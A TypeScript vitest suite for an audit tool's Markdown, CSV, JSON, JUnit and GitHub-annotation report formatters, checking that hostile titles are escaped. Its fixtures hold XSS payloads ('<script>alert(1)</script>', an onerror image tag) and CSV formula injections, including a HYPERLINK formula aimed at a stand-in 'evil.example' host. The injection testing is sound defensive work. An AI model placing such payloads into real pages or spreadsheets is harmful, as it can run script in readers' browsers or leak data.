import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AuditReport } from '../src/model/report.js';
import type { EvidenceResult } from '../src/model/results.js';
import { demoCriteria } from '../src/demo/criteria.js';
import { catalogue, explain, type Lang } from '../src/i18n/index.js';
import { reason } from '../src/model/reasons.js';
import { csvField, csvFormatter } from '../src/report/csv.js';
import { jsonFormatter, toJson } from '../src/report/json.js';
import { writeAtomically } from '../src/report/outputs.js';
import { cleanStrings, safeReport } from '../src/report/safe.js';
import { cleanMultiline } from '../src/report/sanitize.js';
import type { FormatOptions, Formatter } from '../src/report/formatter.js';
import { escapeData, escapeProperty, githubFormatter } from '../src/report/github.js';
import { attr, junitFormatter, text as xmlText } from '../src/report/junit.js';
import { GITHUB_COMMENT_LIMIT, markdownFormatter } from '../src/report/markdown.js';
import { signed } from '../src/report/words.js';
import { sanitize } from '../src/report/sanitize.js';
import { checkText, firstFailedCheck, formatNumber } from '../src/report/words.js';
import { totals } from '../src/score/score.js';
import { type IndicatorResult } from '../src/model/report.js';
import { demoReport } from './report-fixture.js';

const LANGS: Lang[] = ['zh', 'en'];

let demo: AuditReport;
let hostile: AuditReport;
let criteriaLines: string[];

/** Everything a hostile criteria file or page could put in a title or a message. */
const NASTY = 'a | pipe\nnew line <script>alert(1)</script> "quotes" & amp \u0007bell\ttab ]]> 100% a:b,c';
const FORMULAS = ['=HYPERLINK("http://evil.example/?x","x")', '+1', '-1', '@SUM(A1:A2)', '\tTAB', '=1+1'];

beforeAll(async () => {
  demo = await demoReport();
  const origin = new URL(leaves(demo.indicators)[0]!.evidence![0]!.evidence.url).origin;
  criteriaLines = demoCriteria(origin).split('\n');
  hostile = makeHostile(demo);
}, 30_000);

function leaves(results: IndicatorResult[]): IndicatorResult[] {
  return results.flatMap((r) => (r.evidence ? [r] : leaves(r.children)));
}

function allEvidence(report: AuditReport): EvidenceResult[] {
  return leaves(report.indicators).flatMap((l) => l.evidence ?? []);
}

function run(formatter: Formatter, report: AuditReport, lang: Lang, extra: Partial<FormatOptions> = {}): string {
  return formatter.format(report, { lang, color: false, verbose: false, ...extra });
}

/**
 * The demo report with hostile titles and messages everywhere, one leaf that cites nothing, XML-illegal
 * code points, and a selection and changes to show.
 */
function makeHostile(report: AuditReport): AuditReport {
  const r = structuredClone(report);
  r.title = `${NASTY} title`;
  const all = leaves(r.indicators);
  for (const top of r.indicators) top.indicator.title = `${top.indicator.title} ${NASTY}`;
  all.forEach((leaf, i) => {
    leaf.indicator.title = `${FORMULAS[i % FORMULAS.length]} ${NASTY}`;
    leaf.evidence?.forEach((e, j) => {
      e.evidence.title = `${FORMULAS[(i + j) % FORMULAS.length]} ${NASTY} \uFFFE\uD800 lone`;
    });
  });
  // A failing check whose message quotes the page: the soft-404 phrase is page text.
  const failed = allEvidence(r).find((e) => e.verdict === 'fail')!;
  const check = firstFailedCheck(failed)!;
  check.reason = reason('SOFT_404', { phrase: `-${NASTY}` });
  // A leaf that cites nothing: evidence: [] in the criteria file.
  const empty = all.find((l) => l.verdict === 'pass')!;
  empty.evidence = [];
  empty.indicator.evidence = [];
  Object.assign(empty, { score: 0, passed: 0, total: 0, verdict: 'fail', problem: { reason: reason('NO_EVIDENCE', {}) } });
  r.totals = totals(r.indicators);
  r.complete = false;
  r.selection = { reason: `--only 一 ${NASTY}`, skipped: [{ id: '四', title: NASTY }, { id: '五', title: '五' }] };
  r.changes = {
    baseline: { path: 'last|night.json', finishedAt: '2026-03-14T04:00:00Z', score: 57.5 },
    scoreDelta: 2.5,
    newlyFailing: [
      { id: '二.3', title: NASTY, reason: `<img src=x onerror=alert(1)> ${NASTY}`, previous: 'pass' },
      { id: '三.9', title: '新指标', reason: '未提供佐证材料', previous: 'new' },
    ],
    fixed: [{ id: '一.2', title: '发展规划' }],
  };
  return r;
}

const emptyLeaves = (report: AuditReport) => leaves(report.indicators).filter((l) => l.evidence!.length === 0);

// ---------------------------------------------------------------- markdown

/** Cells of a GFM table row as GitHub splits them: a backslash escapes the next character. */
function splitRow(line: string): string[] {
  const cells: string[] = [];
  let current = '';
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (ch === '\\' && i + 1 < line.length) {
      current += ch + line[i + 1];
      i++;
    } else if (ch === '|') {
      cells.push(current);
      current = '';
    } else current += ch;
  }
  cells.push(current);
  return cells;
}

/** Each table (a run of lines starting with "|") with its rows split into cells. */
function tables(markdown: string): string[][][] {
  const found: string[][][] = [];
  let current: string[][] | undefined;
  for (const line of markdown.split('\n')) {
    if (line.startsWith('|')) {
      current ??= [];
      current.push(splitRow(line));
    } else if (current) {
      found.push(current);
      current = undefined;
    }
  }
  if (current) found.push(current);
  return found;
}

describe('markdown', () => {
  it.each(LANGS)('has the heading, score, counts and the indicator table in %s', (lang) => {
    const t = catalogue(lang);
    const out = run(markdownFormatter, demo, lang);
    expect(out.startsWith(`## ${demo.title}\n`)).toBe(true);
    expect(out).toContain(t.ui.score(formatNumber(demo.totals.score), formatNumber(demo.totals.maxScore)));
    expect(out).toContain(t.ui.indicatorCounts(demo.totals.indicators));
    expect(out).not.toContain(t.ui.labels.incomplete);
    const [indicatorTable] = tables(out);
    const header = indicatorTable![0]!.map((c) => c.trim()).slice(1, -1);
    expect(header).toEqual([...t.ui.headers]);
    // One row per indicator, in tree order, after the header and the rule.
    const ids: string[] = [];
    const visit = (r: IndicatorResult) => { ids.push(r.indicator.id); r.children.forEach(visit); };
    demo.indicators.forEach(visit);
    expect(indicatorTable!.slice(2).map((row) => row[1]!.trim())).toEqual(ids);
    expect(out).toContain(`❌ ${t.ui.verdict.fail}`);
    expect(out).toContain(`⚠️ ${t.ui.verdict.unverified}`);
    expect(out).toContain(`✅ ${t.ui.verdict.pass}`);
    // Children are indented under their parent.
    expect(out).toMatch(/\| └ /);
  });

  it('has one details block per leaf that did not pass, with each evidence linked', () => {
    const out = run(markdownFormatter, demo, 'zh');
    const notPassing = leaves(demo.indicators).filter((l) => l.verdict !== 'pass');
    expect(out.match(/<details>/g)).toHaveLength(notPassing.length);
    expect(out.match(/<\/details>/g)).toHaveLength(notPassing.length);
    for (const leaf of notPassing) {
      for (const e of leaf.evidence!) expect(out).toContain(`](${e.evidence.url})`);
    }
    const gone = allEvidence(demo).find((e) => e.httpStatus === 404)!;
    expect(out).toContain(`| ❌ ${catalogue('zh').ui.verdict.fail} | HTTP 404 |`);
    expect(out).toContain(sanitize(checkText(firstFailedCheck(gone)!, 'zh')));
    // --verbose lists the passing leaves too.
    expect(run(markdownFormatter, demo, 'zh', { verbose: true }).match(/<details>/g)).toHaveLength(leaves(demo.indicators).length);
  });

  it.each(LANGS)('never lets hostile text split a cell or inject HTML (%s)', (lang) => {
    const out = run(markdownFormatter, hostile, lang);
    const found = tables(out);
    expect(found.length).toBeGreaterThan(1);
    for (const table of found) {
      const columns = table[0]!.length;
      for (const row of table) expect(row).toHaveLength(columns);
    }
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toMatch(/<img/i);
    expect(out).toContain('&lt;script&gt;');
    expect(out).toContain('a \\| pipe');
    // The only tags are ours.
    const tags = new Set(out.match(/<\/?[a-z][^>]*>/gi));
    expect([...tags].sort()).toEqual(['</details>', '</summary>', '<details>', '<summary>']);
    expect(out).not.toContain('\u0007');
    // A link title cannot close the link early; the destination cannot end the cell.
    for (const line of out.split('\n').filter((l) => l.includes(']('))) {
      expect(line).toMatch(/\[[^\]]*(\\\][^\]]*)*\]\(http:\/\/127\.0\.0\.1:\d+\/[^\s()|]*\)/);
    }
  });

  it('shows the incomplete warning, the selection and the changes', () => {
    const t = catalogue('en');
    const out = run(markdownFormatter, hostile, 'en');
    expect(out).toContain(`> ⚠️ ${t.ui.labels.incomplete}`);
    expect(out).toContain(t.ui.skippedBecause('--only 一 a \\| pipe').slice(0, 20));
    expect(out).toMatch(/Not audited: 四 a \\\| pipe.*, 五 五/);
    expect(out).toContain(`### ${t.ui.labels.changes}`);
    expect(out).toContain(t.ui.scoreDelta('+2.50'));
    expect(out).toContain(`**${t.ui.labels.newlyFailing}**`);
    expect(out).toContain('- ❌ 二.3 a \\| pipe');
    expect(out).toMatch(/- ❌ 二\.3 .* \(✅ → ❌\): &lt;img/);
    expect(out).toContain('- ❌ 三.9 新指标: 未提供佐证材料');
    expect(out).toContain(`**${t.ui.labels.fixed}**\n\n- ✅ 一.2 发展规划`);
    // The leaf that cites nothing says so in its details block.
    const empty = emptyLeaves(hostile)[0]!;
    expect(out).toContain(`- ❌ ${explain(reason('NO_EVIDENCE', {}), 'en')}`);
    expect(out).toContain(`<summary>❌ ${empty.indicator.id} `);
  });

  it('signs the score change', () => {
    expect(signed(2.5)).toBe('+2.50');
    expect(signed(-3)).toBe('-3');
    expect(signed(0)).toBe('0');
    expect(signed(0.1 + 0.2 - 0.3)).toBe('0');
  });

  it('stays under GitHub\'s comment limit, dropping the details first', () => {
    const big = structuredClone(demo);
    for (const e of allEvidence(big)) e.evidence.title = '长'.repeat(6000);
    const full = run(markdownFormatter, big, 'zh', { verbose: true });
    expect(full.length).toBeLessThanOrEqual(GITHUB_COMMENT_LIMIT);
    expect(full).not.toContain('<details>');
    expect(full).toContain('✂️');
    // The table is kept whole.
    expect(tables(full)[0]!.length).toBe(2 + 13);

    // Far too many indicators even for the table: the problems are kept, as many as fit.
    const huge = structuredClone(demo);
    const many = Array.from({ length: 400 }, () => structuredClone(demo.indicators)).flat();
    huge.indicators = many;
    const out = run(markdownFormatter, huge, 'en');
    expect(out.length).toBeLessThanOrEqual(GITHUB_COMMENT_LIMIT);
    expect(out).toContain(catalogue('en').ui.labels.onlyFailures);
    for (const table of tables(out)) for (const row of table) expect(row).toHaveLength(9);
  });
});

// ---------------------------------------------------------------- csv

/** RFC 4180, strictly: CRLF records, quoted fields with doubled quotes; anything else throws. */
function parseCsv(input: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  const n = input.length;
  if (n === 0) return records;
  for (;;) {
    let field = '';
    if (input[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        if (input[i] === '"') {
          if (input[i + 1] === '"') { field += '"'; i += 2; continue; }
          i++;
          break;
        }
        field += input[i++];
      }
    } else {
      while (i < n && input[i] !== ',' && input[i] !== '\r' && input[i] !== '\n') {
        if (input[i] === '"') throw new Error(`quote inside an unquoted field at ${i}`);
        field += input[i++];
      }
    }
    record.push(field);
    if (input[i] === ',') { i++; continue; }
    if (input.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
      if (i >= n) return records;
      continue;
    }
    if (i >= n) throw new Error('the last record must end with CRLF');
    throw new Error(`bare ${JSON.stringify(input[i])} at ${i}`);
  }
}

describe('json', () => {
  // The pieces are made one indicator at a time; the text must be the one whole document it always was.
  const whole = (report: AuditReport, lang: Lang) => JSON.stringify(cleanStrings(toJson(report, lang), cleanMultiline), null, 2) + '\n';

  it.each(LANGS)('writes, piece by piece, exactly the text of the whole report (%s)', async (lang) => {
    for (const report of [demo, hostile]) {
      const pieces = [...jsonFormatter.pieces!(report, { lang, color: false, verbose: false })];
      expect(pieces.length).toBe(report.indicators.length + 2);
      expect(pieces.join('')).toBe(whole(report, lang));
      expect(run(jsonFormatter, report, lang)).toBe(whole(report, lang));
      expect(JSON.parse(pieces.join('')).indicators).toHaveLength(report.indicators.length);
    }
  });

  it('cleans each evidence once: its copy is shared by the indicator and the result, as the original was', () => {
    const safe = safeReport(hostile);
    const leaf = leaves(safe.indicators).find((l) => (l.evidence?.length ?? 0) > 0)!;
    expect(leaf.evidence![0]!.evidence).toBe(leaf.indicator.evidence[0]);
    expect(leaf.evidence![0]!.evidence.title).not.toMatch(/\u0007/);
    expect(leaf.evidence![0]!.evidence).not.toBe(leaves(hostile.indicators).find((l) => l.indicator.id === leaf.indicator.id)!.evidence![0]!.evidence);
  });

  it('copies only what cleaning changes, and never alters the original', () => {
    // A clean report is shared, not copied: a whole copy doubled the heap at the end of a large run.
    expect(safeReport(demo).indicators).toBe(demo.indicators);
    const before = JSON.stringify(hostile);
    const safe = safeReport(hostile);
    expect(JSON.stringify(hostile)).toBe(before);
    expect(JSON.stringify(safe)).not.toBe(before);
    const original = leaves(hostile.indicators);
    for (const leaf of leaves(safe.indicators)) expect(original).not.toContain(leaf);
  });

  it('says what went wrong when a format fails while its pieces are made, and leaves no file', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'audit-json-'));
    try {
      const failing = function* () { yield '{'; throw new Error('format broke'); };
      await expect(writeAtomically(join(dir, 'r.json'), failing())).rejects.toThrow(/^error writing .*r\.json: format broke$/);
      expect(await readdir(dir)).toEqual([]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('writes a report with no indicators as one valid document', () => {
    const empty = { ...demo, indicators: [], totals: totals([]) };
    const text = run(jsonFormatter, empty, 'en');
    expect(text).toBe(whole(empty, 'en'));
    expect(JSON.parse(text).indicators).toEqual([]);
  });

  it('a report file written in pieces holds the same bytes as one written whole', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'audit-json-'));
    try {
      // Large enough to cross several write batches.
      const big = { ...demo, indicators: Array.from({ length: 400 }, () => demo.indicators).flat() };
      await writeAtomically(join(dir, 'pieces.json'), jsonFormatter.pieces!(big, { lang: 'zh', color: false, verbose: false }));
      expect(await readFile(join(dir, 'pieces.json'), 'utf8')).toBe(whole(big, 'zh'));
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('csv', () => {
  it.each(LANGS)('has a BOM, a header row in %s, and one CRLF record per evidence', (lang) => {
    const { labels, verdict } = catalogue(lang).ui;
    const out = run(csvFormatter, demo, lang);
    expect(out.startsWith('\uFEFF')).toBe(true);
    expect(out.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const [header, ...rows] = parseCsv(out.slice(1));
    expect(header).toHaveLength(14);
    expect(header!.slice(0, 10)).toEqual([
      labels.id, labels.indicator, labels.weight, labels.score, labels.evidence, labels.url, labels.finalUrl,
      labels.verdict, labels.httpStatus, labels.lastUpdated,
    ]);
    expect(new Set(header).size).toBe(header!.length);
    if (lang === 'zh') expect(header!.join('')).toMatch(/^编号指标权重得分佐证/);
    else expect(header!.join(',')).toMatch(/^ID,Indicator,Weight,Score,Evidence,URL/);

    const expected = leaves(demo.indicators).flatMap((leaf) => leaf.evidence!.map((e) => ({ leaf, e })));
    expect(rows).toHaveLength(expected.length);
    rows.forEach((row, i) => {
      const { leaf, e } = expected[i]!;
      expect(row).toHaveLength(14);
      expect(row[0]).toBe(leaf.indicator.id);
      expect(row[1]).toBe(leaf.indicator.title);
      expect(row[2]).toBe(formatNumber(leaf.indicator.weight));
      expect(row[3]).toBe(formatNumber(leaf.score));
      expect(row[4]).toBe(e.evidence.title);
      expect(row[5]).toBe(e.evidence.url);
      expect(row[6]).toBe(e.finalUrl);
      expect(row[7]).toBe(verdict[e.verdict]);
      expect(row[8]).toBe(e.httpStatus ? String(e.httpStatus) : '');
      expect(row[9]).toBe(e.lastUpdated ?? '');
      const problem = e.verdict === 'pass' ? undefined : firstFailedCheck(e);
      expect(row[11]).toBe(problem ? checkText(problem, lang) : '');
      expect(row[12]).toBe(problem?.reason.code ?? '');
      expect(row[13]).toBe(String(e.evidence.position.line));
    });
  });

  it('neutralises formulas and survives hostile text', () => {
    const out = run(csvFormatter, hostile, 'zh');
    const [, ...rows] = parseCsv(out.slice(1));
    expect(rows).toHaveLength(allEvidence(hostile).length + emptyLeaves(hostile).length);
    for (const row of rows) {
      expect(row).toHaveLength(14);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const cells = rows.flat();
    for (const formula of FORMULAS.map((f) => sanitize(f))) {
      // sanitize already turned the leading tab into a space; the others need the apostrophe.
      const start = /^[=+\-@]/.test(formula) ? `'${formula} ` : `${formula} `;
      expect(cells.some((c) => c.startsWith(start))).toBe(true);
    }
    // Quotes, commas and pipes come back exactly; control characters are gone.
    const evidenceTitles = rows.map((r) => r[4]!).filter(Boolean);
    for (const title of evidenceTitles) {
      expect(title).toContain('"quotes" & amp bell tab ]]> 100% a:b,c');
      expect(title).not.toContain('\u0007');
    }
    // The reason quoting the page is neutralised too: it starts with "-".
    expect(cells).toContain(sanitize(explain(reason('SOFT_404', { phrase: `-${NASTY}` }), 'zh')));
    // The leaf that cites nothing has a row with the reason.
    const emptyRow = rows.find((r) => r[12] === 'NO_EVIDENCE')!;
    expect(emptyRow[4]).toBe('');
    expect(emptyRow[7]).toBe(catalogue('zh').ui.verdict.fail);
    expect(emptyRow[13]).toBe(String(emptyLeaves(hostile)[0]!.indicator.position.line));
  });
});

describe('csv fields', () => {
  it('quote per RFC 4180 and neutralise what a spreadsheet would run', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    for (const lead of ['+', '-', '@', '\t']) expect(csvField(`${lead}x`)).toBe(`'${lead}x`);
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField('a=1')).toBe('a=1');
  });
});

// ---------------------------------------------------------------- junit

const xmlParser = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '',
  parseAttributeValue: false,
  parseTagValue: false,
  htmlEntities: true,
  isArray: (name) => name === 'testsuite' || name === 'testcase',
});

type Xml = Record<string, any>; // parsed XML: shape checked by the assertions

describe('junit', () => {
  it.each(LANGS)('is well-formed and counts what the report counts (%s)', (lang) => {
    const out = run(junitFormatter, demo, lang);
    expect(XMLValidator.validate(out)).toBe(true);
    const doc = xmlParser.parse(out) as Xml;
    const root = doc['testsuites'] as Xml;
    const ev = demo.totals.evidence;
    expect(root['name']).toBe(demo.title);
    expect(Number(root['tests'])).toBe(ev.pass + ev.fail + ev.unverified);
    expect(Number(root['failures'])).toBe(ev.fail);
    expect(Number(root['skipped'])).toBe(ev.unverified);
    const suites = root['testsuite'] as Xml[];
    for (const s of suites) expect(s['timestamp']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d$/);
    expect(suites.map((s) => s['name'])).toEqual(demo.indicators.map((r) => `${r.indicator.id} ${r.indicator.title}`));
    const cases = suites.flatMap((s) => s['testcase'] as Xml[]);
    expect(cases).toHaveLength(ev.pass + ev.fail + ev.unverified);
    for (const s of suites) {
      const own = s['testcase'] as Xml[];
      expect(Number(s['tests'])).toBe(own.length);
      expect(Number(s['failures'])).toBe(own.filter((c) => c['failure'] !== undefined).length);
      expect(Number(s['skipped'])).toBe(own.filter((c) => c['skipped'] !== undefined).length);
    }
    // Each testcase is its evidence: the title, the leaf as classname, the failure's message and code.
    const evidence = allEvidence(demo);
    cases.forEach((c, i) => {
      const e = evidence[i]!;
      expect(c['name']).toBe(e.evidence.title);
      expect(c['classname']).toMatch(/^[一二三]\.\d /);
      expect(Number(c['time'])).toBeCloseTo(e.durationMs / 1000, 3);
      const problem = firstFailedCheck(e);
      if (e.verdict === 'fail') {
        expect(c['failure']['message']).toBe(checkText(problem!, lang));
        expect(c['failure']['type']).toBe(problem!.reason.code);
        expect(c['failure']['#text']).toContain(e.evidence.url);
      } else if (e.verdict === 'unverified') {
        expect(c['skipped']['message']).toBe(checkText(problem!, lang));
      } else {
        expect(c['failure']).toBeUndefined();
        expect(c['skipped']).toBeUndefined();
      }
    });
    const stale = cases.find((c) => c['failure']?.['type'] === 'STALE')!;
    expect(stale['failure']['#text']).toContain('HTTP');
    expect(stale['failure']['#text']).toMatch(/2024-03-15/);
  });

  it.each(LANGS)('escapes hostile text and strips what XML 1.0 forbids (%s)', (lang) => {
    const out = run(junitFormatter, hostile, lang);
    expect(XMLValidator.validate(out)).toBe(true);
    expect(out).not.toContain(']]>');
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/);
    expect(out).not.toMatch(/[\uD800-\uDFFF]/);
    const root = (xmlParser.parse(out) as Xml)['testsuites'] as Xml;
    const ev = hostile.totals.evidence;
    const missing = emptyLeaves(hostile).length;
    expect(missing).toBe(1);
    expect(Number(root['tests'])).toBe(ev.pass + ev.fail + ev.unverified + missing);
    expect(Number(root['failures'])).toBe(ev.fail + missing);
    expect(Number(root['skipped'])).toBe(ev.unverified);
    const suites = root['testsuite'] as Xml[];
    expect(suites).toHaveLength(hostile.indicators.length);
    const cases = suites.flatMap((s) => s['testcase'] as Xml[]);
    // Titles come back exactly as sanitised, minus the code points XML cannot carry.
    const titles = allEvidence(hostile).map((e) => sanitize(e.evidence.title).replace(/\uFFFE|\uD800/g, ''));
    // (The parser trims attribute values.)
    for (const title of titles) expect(cases.map((c) => c['name'])).toContain(title.trim());
    // The leaf that cites nothing fails in CI.
    const noEvidence = cases.filter((c) => c['failure']?.['type'] === 'NO_EVIDENCE');
    expect(noEvidence).toHaveLength(1);
    expect(noEvidence[0]!['failure']['message']).toBe(explain(reason('NO_EVIDENCE', {}), lang));
  });

  it('escapes text and attributes', () => {
    expect(xmlText('a&b<c>d"e\'f]]>\u0007\uFFFF\uD800x\uD83D\uDE00')).toBe('a&amp;b&lt;c&gt;d&quot;e&#39;f]]&gt;x\uD83D\uDE00');
    expect(attr('a\tb\nc\rd')).toBe('a&#9;b&#10;c&#13;d');
  });
});

// ---------------------------------------------------------------- github

interface WorkflowCommand {
  name: string;
  properties: Record<string, string>;
  message: string;
}

const unescape = (value: string) =>
  value.replace(/%2C/g, ',').replace(/%3A/g, ':').replace(/%0A/g, '\n').replace(/%0D/g, '\r').replace(/%25/g, '%');

function parseCommands(output: string): WorkflowCommand[] {
  expect(output.endsWith('\n')).toBe(true);
  return output.trimEnd().split('\n').map((line) => {
    // Properties cannot hold a raw ":" (it would end them) nor "," (it would split them).
    const m = /^::(\w+)(?: ([^:]*))?::(.*)$/.exec(line);
    if (!m) throw new Error(`not a workflow command: ${line}`);
    const properties: Record<string, string> = {};
    for (const pair of (m[2] ?? '').split(',').filter(Boolean)) {
      const eq = pair.indexOf('=');
      properties[pair.slice(0, eq)] = unescape(pair.slice(eq + 1));
    }
    return { name: m[1]!, properties, message: unescape(m[3]!) };
  });
}

describe('github', () => {
  it.each(LANGS)('annotates each failed evidence once, at the line its entry starts (%s)', (lang) => {
    const commands = parseCommands(run(githubFormatter, demo, lang));
    const errors = commands.filter((c) => c.name === 'error');
    const warnings = commands.filter((c) => c.name === 'warning');
    expect(errors).toHaveLength(demo.totals.evidence.fail);
    expect(warnings).toHaveLength(demo.totals.evidence.unverified);
    for (const leaf of leaves(demo.indicators)) {
      for (const e of leaf.evidence!.filter((x) => x.verdict !== 'pass')) {
        const title = `${leaf.indicator.id} ${e.evidence.title}`;
        const matching = (e.verdict === 'fail' ? errors : warnings).filter((c) => c.properties['title'] === title);
        expect(matching).toHaveLength(1);
        const { properties, message } = matching[0]!;
        expect(properties['file']).toBe('demo-criteria.yaml');
        const line = Number(properties['line']);
        expect(line).toBe(e.evidence.position.line);
        const source = criteriaLines[line - 1]!;
        expect(source.includes(`- title: ${e.evidence.title}`) || source.includes(`url: ${e.evidence.url}`)).toBe(true);
        expect(message).toContain(checkText(firstFailedCheck(e)!, lang));
        expect(message).toContain(e.evidence.url);
      }
    }
    const last = commands.at(-1)!;
    expect(last.name).toBe('notice');
    expect(last.message).toContain(catalogue(lang).ui.score(formatNumber(demo.totals.score), formatNumber(demo.totals.maxScore)));
    expect(commands.filter((c) => c.name === 'notice')).toHaveLength(1);
  });

  it('escapes properties and messages, and annotates a leaf that cites nothing', () => {
    const out = run(githubFormatter, hostile, 'en');
    const commands = parseCommands(out);
    expect(out).toContain('100%25 a%3Ab%2Cc');
    const titled = commands.filter((c) => c.properties['title']?.includes('a | pipe'));
    expect(titled.length).toBeGreaterThan(0);
    for (const c of titled) expect(c.properties['title']).toContain('100% a:b,c');
    const soft = commands.find((c) => c.message.includes('soft 404'))!;
    expect(soft.message).toContain(sanitize(`-${NASTY}`));
    const empty = emptyLeaves(hostile)[0]!;
    const noEvidence = commands.filter((c) => c.message === explain(reason('NO_EVIDENCE', {}), 'en'));
    expect(noEvidence).toHaveLength(1);
    expect(noEvidence[0]!.name).toBe('error');
    expect(Number(noEvidence[0]!.properties['line'])).toBe(empty.indicator.position.line);
    expect(criteriaLines[empty.indicator.position.line - 1]).toContain(`- id: "${empty.indicator.id}"`);
    // Interrupted runs say so.
    expect(commands.some((c) => c.name === 'warning' && c.message === catalogue('en').ui.labels.incomplete)).toBe(true);
  });

  it('follows the runner\'s escaping rules', () => {
    expect(escapeData('100%\r\nnext: a,b')).toBe('100%25%0D%0Anext: a,b');
    expect(escapeProperty('100%\r\nnext: a,b')).toBe('100%25%0D%0Anext%3A a%2Cb');
  });
});
